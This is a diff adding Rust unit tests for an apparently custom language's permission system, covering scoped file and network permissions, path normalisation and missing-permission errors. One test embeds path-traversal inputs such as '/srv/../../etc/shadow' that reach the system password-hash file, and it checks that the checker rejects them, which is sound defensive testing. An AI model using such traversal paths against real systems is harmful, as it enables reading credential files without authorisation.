+        assert!(hierarchy.covers(&[scoped("ReadFile")], &scoped("ReadFile(\"/etc/a\")")));
+        assert!(!hierarchy.covers(&[scoped("ReadFile(\"/etc/*\")")], &scoped("ReadFile")));
+        assert!(!hierarchy.covers(
+            &[scoped("ReadFile(\"/etc/app/x*\")")],
+            &scoped("ReadFile(\"/etc/app/*\")")
+        ));
+        assert_eq!(
+            scoped("ReadNetwork").resource("wss://user@example.com/feed"),
+            Some("example.com:443".to_string())
+        );
+        assert_eq!(
+            scoped("ReadNetwork").resource("example.com"),
+            Some("example.com:*".to_string())
+        );
+    }
+
+    #[test]
+    fn permissions_scope_traversal() {
+        let root = project(
+            "permissions-traversal",
+            &[(
+                "main.iona",
+                "import read_file from std.files
+fn main :: void {
+    #Permissions :: ReadFile(\"/etc/app/*\") ReadFile(\"/srv/**\")
+    let config :: str = read_file \"/etc/app/./config\"
+    let shadow :: str = read_file \"/etc/app/../shadow\"
+    let nested :: str = read_file \"/etc/app/sub/config\"
+    let page :: str = read_file \"/srv/www/../site/index.html\"
+    let escape :: str = read_file \"/srv/../../etc/shadow\"
+}",
+            )],
+        );
+        let program = Program::load(&root.join("main.iona"), vec![root.clone()]).unwrap();
+        let messages: Vec<&str> = program.modules["main"]
+            .problems
+            .iter()
+            .filter(|p| p.class == ProblemClass::Error)
+            .map(|p| p.message.as_str())
+            .collect();
+        assert_eq!(
+            messages,
+            vec![
+                "`main` calls `read_file`, which requires `ReadFile(\"/etc/shadow\")`, but `main` only has `ReadFile(\"/etc/app/*\")` and `ReadFile(\"/srv/**\")`",
+                "`main` calls `read_file`, which requires `ReadFile(\"/etc/app/sub/config\")`, but `main` only has `ReadFile(\"/etc/app/*\")` and `ReadFile(\"/srv/**\")`",
+                "`main` calls `read_file`, which requires `ReadFile`, but `main` only has `ReadFile(\"/etc/app/*\")` and `ReadFile(\"/srv/**\")`",
+            ]
+        );
+        let read = Permissions::ReadFile;
+        assert_eq!(read.resource("a/./b/../c"), Some("a/c".to_string()));
+        assert_eq!(read.resource("../c"), None);
+        let hierarchy = &program.permissions;
+        let scoped = |text: &str| Permissions::from_str(text);
+        assert!(hierarchy.covers(
+            &[scoped("ReadFile(\"/etc/**\")")],
+            &scoped("ReadFile(\"/etc/app/*\")")
+        ));
+        assert!(!hierarchy.covers(
+            &[scoped("ReadFile(\"/etc/*\")")],
+            &scoped("ReadFile(\"/etc/app/*\")")
+        ));
+        assert!(!hierarchy.covers(
+            &[scoped("ReadFile(\"/etc/*\")")],
+            &scoped("ReadFile(\"/etc/**\")")
+        ));
+    }
+
+    #[test]
+    fn permissions_everyday_effects() {
+        let root = project(
+            "permissions-everyday",
+            &[(
+                "main.iona",
+                "import get_env from std.env
+import now from std.time
+import random_int from std.random
+fn greet :: name str -> void {
+    println name
+}
+fn roll :: int {
+    #Permissions :: ReadRandom
+    return random_int 1 6
+}
+fn main :: void {
+    #Permissions :: WriteConsole ReadRandom
+    greet (get_env \"USER\")
+    let started :: int = now
+    let dice :: int = roll
+}",
+            )],
+        );
+        let program = Program::load(&root.join("main.iona"), vec![root.clone()]).unwrap();
+        let messages: Vec<String> = errors(&program, "main")
+            .into_iter()
+            .map(|p| p.message)
+            .collect();
+        assert_eq!(
+            messages,
+            vec![
+                "`greet` calls `println`, which requires `WriteConsole`, but `greet` doesn't have that permission",
+                "`main` calls `get_env`, which requires `ReadEnvironment`, but `main` doesn't have that permission",
+                "`main` calls `now`, which requires `ReadClock`, but `main` doesn't have that permission",
+            ]
+        );
+    }
+}